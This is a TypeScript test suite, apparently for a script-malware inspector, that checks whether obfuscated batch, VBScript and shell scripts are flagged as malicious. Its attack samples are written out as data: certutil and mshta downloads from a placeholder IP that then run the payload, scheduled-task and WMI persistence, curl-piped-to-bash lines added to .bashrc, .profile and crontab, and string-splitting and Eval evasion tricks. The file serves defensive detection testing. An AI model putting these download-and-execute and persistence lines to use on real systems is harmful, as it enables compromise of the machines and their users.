/** Scripts that assemble their commands from pieces, or reach them by jumps, conditions and texts that they evaluate. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { assertCheap } from '#inspect/testing/cpu-time.ts'
import { useInspector } from '#inspect/testing/inspector.ts'

const { inspect } = useInspector()
const worst = (name: string, text: string): string | undefined =>
  inspect(Buffer.from(text), { name }).findings[0]?.severity

const FETCH = 'certutil -urlcache -split -f http://192.0.2.1/a.exe %TEMP%\\a.exe'
const START = 'start %TEMP%\\a.exe'
const lines = (...all: string[]): string => all.join('\r\n')

/** A task that starts a program with arguments. */
const task = (program: string, values: string): string =>
  lines(
    'Set s = CreateObject("Schedule.Service")',
    's.Connect',
    'Set t = s.NewTask(0)',
    'Set a = t.Actions.Create(0)',
    `a.Path = ${program}`,
    `a.Arguments = ${values}`,
    's.GetFolder("\\").RegisterTaskDefinition "a", t, 6, "", "", 3',
  )
const event = (command: string): string =>
  lines(
    'Set c = GetObject("winmgmts:\\\\.\\root\\subscription").Get("CommandLineEventConsumer").SpawnInstance_',
    `c.CommandLineTemplate = ${command}`,
    'c.Put_',
  )

suite('a script is judged by what its pieces make', () => {
  const attacks: [string, string][] = [
    ['task.vbs', task('"mshta.exe"', '"http://192.0.2.1/a.hta"')],
    ['task-joined.vbs', task('"ms" & "hta.exe"', '"http:" & "//192.0.2.1/a.hta"')],
    ['task-reversed.vbs', task('StrReverse("exe.athsm")', 'StrReverse("ath.a/1.2.0.291//:ptth")')],
    ['task-replaced.vbs', task('Replace("m#s#h#t#a", "#", "")', 'Join(Array("http:", "//192.0.2.1/", "a.hta"), "")')],
    ['task-shared.vbs', task('"wscript.exe"', '"\\\\192.0.2.1" & "\\a\\a.vbs"')],
    ['event-joined.vbs', event('"ms" & "hta http:" & "//192.0.2.1/a.hta"')],
    [
      'eval.vbs',
      'Set s = CreateObject(Eval("""WScript.Shell"""))\r\ns.Exec Eval("""mshta http:"" & ""//192.0.2.1/a.hta""")',
    ],
    ['unset.bat', 'm%zz%s%zz%h%zz%t%zz%a http://192.0.2.1/a.hta'],
    ['jumps.bat', lines('goto one', ':two', START, 'goto end', ':one', FETCH, 'goto two', ':end')],
    ['called.bat', lines(`set "a=${FETCH}"`, 'call %%a%%', `set "b=${START}"`, 'call %%b%%')],
    ['else.bat', lines(`if 1==2 (echo a) else (${FETCH})`, `if 1==2 (echo a) else (${START})`)],
    ['conditions.bat', lines(`if not defined a if not exist "b c" ${FETCH}`, `if not defined a ${START}`)],
    [
      'items.sh',
      `#!/bin/bash\na=('curl -s ' 'http:/'); a+=('/192.0.2.1/a' ' | ba' 'sh')\nfor i in "\${a[@]}"; do c+="$i"; done; eval "$c"\n`,
    ],
    ['profile.sh', `#!/bin/bash\nh=192.0; k=.2.1\necho "curl -s http://$h$k/a | bash" >> ~/.bashrc\n`],
    [
      'profile-quotes.sh',
      `#!/bin/bash\necho "c''u''rl -s http://192.0.2.1/a | b''ash" >> "$HOME/.profile" 2> /dev/null\n`,
    ],
    ['table.sh', `#!/bin/bash\n(cr\\ontab -l; echo "* * * * * c''url http://192.0.2.1/a | sh") | crontab -\n`],
  ]
  for (const [name, text] of attacks) test(name, () => assert.equal(worst(name, text), 'malicious'))
})

suite('the same is harmless with a harmless command', () => {
  const scripts: [string, string][] = [
    ['task.vbs', task('"ms" & "paint.exe"', '"c:\\pictures" & "\\a.png"')],
    ['task-inside.vbs', task('"cscript.exe"', '"\\\\" & InputBox("Server") & "\\scripts\\a.vbs"')],
    ['event.vbs', event('"note" & "pad.exe"')],
    ['eval.vbs', 'MsgBox Eval("1 + 2")'],
    ['unset.bat', 'copy report%YEAR%a.csv d:\\backup\r\necho done%x%ed'],
    [
      'jumps.bat',
      lines(
        'goto main',
        ':build',
        'call npm run build',
        'goto end',
        ':main',
        'if exist a.txt goto build',
        'echo no',
        ':end',
      ),
    ],
    [
      'fetched.bat',
      lines('if not exist a.csv curl -o a.csv https://www.example.com/a.csv', 'if exist a.csv type a.csv'),
    ],
    ['items.sh', `#!/bin/bash\na=(one two); a+=(three)\nfor i in "\${a[@]}"; do echo "$i"; done\n`],
    [
      'profile.sh',
      '#!/bin/bash\necho "export PATH=$PATH:/opt/a/bin" >> ~/.bashrc\necho \'alias ll="ls -l"\' >> ~/.bashrc\n',
    ],
    ['table.sh', '#!/bin/bash\n(crontab -l; echo "0 3 * * * /opt/a/backup.sh") | crontab -\n'],
  ]
  for (const [name, text] of scripts)
    test(name, () => assert.ok([undefined, 'notice'].includes(worst(name, text)), worst(name, text)))
})

suite('many pieces take linear time', () => {
  const long: [string, string][] = [
    ['jumps.bat', ':a\r\ngoto b\r\n:b\r\ngoto a\r\n'.repeat(5_000)],
    ['conditions.bat', `if ${'a=='.repeat(30_000)}\r\n${'if exist a if exist b curl -o a.exe b\r\n'.repeat(1_000)}`],
    ['unset.bat', `${'a%b%'.repeat(2_000)}\r\n`.repeat(12)],
    ['itself.vbs', 'x = "Eval(x) & Eval(x)"\r\ny = Eval(x)\r\n'],
    ['sums.vbs', `x = "1${'+1'.repeat(5_000)}"\r\nFor i = 1 To 100000\r\ny = Eval(x)\r\nNext\r\n`],
    ['items.sh', `#!/bin/sh\n${'a+=(x y z)\n'.repeat(9_000)}for i in "\${a[@]}"; do c+="$i"; done; eval "$c"\n`],
    ['table.sh', `#!/bin/sh\n${'(echo a; echo curl) | crontab -\n'.repeat(3_000)}`],
  ]
  for (const [name, text] of long) test(name, () => assertCheap(() => inspect(Buffer.from(text), { name })))
})
